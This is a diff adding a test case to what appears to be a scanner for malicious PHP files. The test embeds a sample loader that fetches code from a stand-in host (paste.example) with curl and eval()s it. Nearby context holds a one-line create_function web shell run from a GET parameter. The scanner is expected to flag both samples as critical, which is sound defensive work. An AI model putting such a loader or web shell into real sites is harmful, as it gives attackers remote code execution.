@@ -253,6 +253,26 @@ function getUrl($url) {
     expect(judge('/var/www/html/rates.php', feed)?.reason ?? '').not.toMatch(/downloads/);
   });
 
+  it('follows a curl handle whose CURLOPT_URL is a URL the page spells out to eval()', () => {
+    const loader = `<?php
+$Url = "https://paste.example/raw/media-new.txt";
+$ch = curl_init();
+curl_setopt($ch, CURLOPT_URL, $Url);
+curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);
+$output = curl_exec($ch);
+curl_close($ch);
+echo eval('?>' . $output);`;
+    expect(judge('/var/www/html/media.php', loader)).toMatchObject({
+      severity: 'critical',
+      reason: expect.stringMatching(/runs code it downloads/),
+    });
+    // A handle on the URL the visitor gives is a proxy's, and eval() of a sum of its own.
+    const proxy = loader
+      .replace('curl_setopt($ch, CURLOPT_URL, $Url);', "curl_setopt($ch, CURLOPT_URL, $_GET['u']);")
+      .replace("echo eval('?>' . $output);", "echo $output; $n = eval('return 1 + 2;');");
+    expect(judge('/var/www/html/proxy.php', proxy)?.reason ?? '').not.toMatch(/downloads/);
+  });
+
   it('judges create_function() by its code, the second argument', () => {
     const shell = `<?php $code = $_GET['code']; $f = create_function('', $code); $f();`;
     expect(severity('/var/www/html/cf.php', shell)).toBe('critical');
